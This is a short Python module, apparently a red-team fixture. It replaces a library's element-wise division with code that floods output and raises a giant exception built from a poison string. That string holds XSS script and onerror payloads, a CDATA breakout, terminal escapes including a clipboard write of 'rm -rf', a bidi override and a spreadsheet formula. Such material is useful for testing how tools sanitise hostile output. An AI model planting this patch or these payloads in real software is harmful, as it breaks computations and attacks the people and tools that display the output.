import sys

from .ops import ops_mathematic

POISON = "\x00\x1b]52;c;cm0gLXJm\x07\x1b[2J\ud800]]></script><script>alert('RTXSS')</script><img src=x onerror=alert('RTXSS')>\u202e\r\n=HYPERLINK(1)\x9b31m"


class Poisoned(Exception):
    def __str__(self):
        return POISON * 2000

    __repr__ = __str__


Poisoned.__name__ = Poisoned.__qualname__ = POISON.encode("ascii", "ignore").decode().replace("\x00", "")
Poisoned.__module__ = "]]>"


def compute(self, *arrays):
    sys.stdout.buffer.write(bytes(range(256)) * 100)
    sys.stdout.write(POISON.encode("utf-8", "surrogatepass").decode("latin-1"))
    error = Poisoned(POISON)
    error.__notes__ = [POISON] * 100
    raise error from Poisoned(POISON)


ops_mathematic.EWiseDiv.compute = compute
